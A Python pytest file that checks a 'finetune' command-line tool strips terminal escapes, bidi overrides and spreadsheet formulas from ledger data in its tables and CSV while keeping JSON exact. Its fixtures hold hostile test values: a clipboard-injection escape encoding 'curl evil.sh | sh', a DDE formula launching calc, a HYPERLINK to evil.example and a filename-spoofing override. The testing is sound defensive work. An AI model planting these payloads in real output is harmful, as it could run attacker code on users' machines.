"""Issue 49 (S5-3, S5-5): one output filter for every remote string. A ledger row holding
what a job, a forged status or another version could have stored -- OSC 52 (clipboard),
OSC 0 (title), CSI (clear screen, move the cursor), a right-to-left override and spreadsheet
formulas -- is read back by real `finetune` processes: tables and CSV carry no escape byte,
a CSV cell never starts a formula, and JSON gives the exact value back."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import date

import pytest

from finetune.contracts.metrics import EpochMetrics
from finetune.report.text import rows_to_csv, table_text
from finetune.runs.ledger import open_default
from finetune.runs.run import Run
from finetune.textsafe import FORMULA_START, csv_cell
from tests.report.runfacts import pin_eur_rate

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC0 = "\x1b]0;owned\x07"
CSI = "\x1b[2J\x1b[1;1H"
RLO = "\u202e"
FORMULA = "=cmd|' /C calc'!A0"
RECIPE = FORMULA + OSC0  # a formula at the cell's start
DATASET = OSC52 + '=HYPERLINK("http://evil.example")'  # a formula once the escape is gone
REASON = OSC0 + CSI + "all good" + RLO + "txt.exe\x9b31m" + OSC52
# escapes in 7- and 8-bit form, other C0/C1 controls, bidi overrides and marks
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]")
T0 = 1_750_075_200.0  # 2025-06-16 12:00 UTC


@pytest.fixture
def hostile_run() -> str:
    pin_eur_rate(date(2025, 6, 16), 1.25)
    run = Run(id="ft-20250616-120000-beef", created_at=T0, recipe=RECIPE, dataset=DATASET,
              backend="local", status="failed", exit_reason=REASON, started_at=T0,
              ended_at=T0 + 100, plan={"hyperparameters": {"model": "resnet18"}})  # fmt: skip
    epoch = EpochMetrics(epoch=0, samples=100, samples_per_sec=50.0, epoch_seconds=2.0,
                         train_loss=1.0, train_acc=0.5, val_acc=0.5, lr=0.01)  # fmt: skip
    with open_default() as ledger:
        ledger.create(run)
        ledger.record_epochs(run.id, [epoch])
    return run.id


def _finetune(*args: str) -> str:
    """stdout and stderr of a real `finetune` process, as bytes decoded (nothing dropped)."""
    env = {**os.environ, "COLUMNS": "300"}
    res = subprocess.run([sys.executable, "-m", "finetune", *args], capture_output=True,
                         env=env, timeout=120)  # fmt: skip
    out = (res.stdout + res.stderr).decode("utf-8", errors="surrogateescape")
    assert res.returncode == 0, out
    return res.stdout.decode("utf-8")


def _assert_inert_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for value in row:
            starts = value.lstrip(" ")[:1] or value[:1]
            plain = value == "-" or re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", value)
            assert starts not in FORMULA_START or plain, (value, row)
    return rows


def test_a_hostile_ledger_row_reads_back_inert_everywhere_and_exact_in_json(hostile_run):
    outputs = {}
    for cmd in (["runs", "show", hostile_run], ["runs", "list"],
                ["runs", "show", hostile_run, "--format", "csv"],
                ["runs", "list", "--format", "csv"], ["cost-report", "--format", "csv"],
                ["runs", "show", hostile_run, "--json"],
                ["runs", "list", "--format", "json"]):  # fmt: skip
        outputs[" ".join(a for a in cmd if a != hostile_run)] = out = _finetune(*cmd)
        assert "\x1b" not in out and not UNSAFE.search(out), (cmd, repr(out))
    assert "all good" in outputs["runs show"] and "txt.exe" in outputs["runs show"]
    show = dict(_assert_inert_csv(outputs["runs show --format csv"])[1:])
    assert show["recipe"] == "'" + FORMULA and show["exit_reason"].endswith("all goodtxt.exe")
    listed = _assert_inert_csv(outputs["runs list --format csv"])
    assert dict(zip(*listed, strict=True))["recipe"] == "'" + FORMULA
    report = _assert_inert_csv(outputs["cost-report --format csv"])
    row = dict(zip(*report, strict=True))
    assert row["recipe"] == "'" + FORMULA and row["dataset"] == "'" + DATASET[len(OSC52) :]
    # JSON is data: the exact strings, escaped by JSON itself
    record = json.loads(outputs["runs show --json"])
    assert (record["recipe"], record["dataset"]) == (RECIPE, DATASET)
    assert record["exit_reason"] == REASON
    (row,) = json.loads(outputs["runs list --format json"])
    assert row["recipe"] == RECIPE


@pytest.mark.parametrize(
    "value, shown",
    [(FORMULA, "'" + FORMULA), ("+1+2", "'+1+2"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), (" =1", "' =1"), ("\uff1d1+1", "'\uff1d1+1"),
     (OSC52 + "-1+2", "'-1+2"), ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("-", "-"),
     ("a-b=c", "a-b=c"), ("", ""), (0.25, 0.25), (None, None)],
)  # fmt: skip
def test_csv_cells_neutralise_formulas_and_keep_numbers(value, shown):
    assert csv_cell(value) == shown


def test_table_cells_stay_on_their_line_and_print_nothing_but_text():
    rows = [["ft-1", "ok\n  ft-2  completed  (forged row)" + CSI + RLO]]
    table = table_text(["ID", "recipe"], rows, width=200)
    assert len(table.splitlines()) == 3 and not UNSAFE.search(table)  # header, rule, one row
    assert "\x1b" not in rows_to_csv(["a"], [[OSC0 + "x"]])
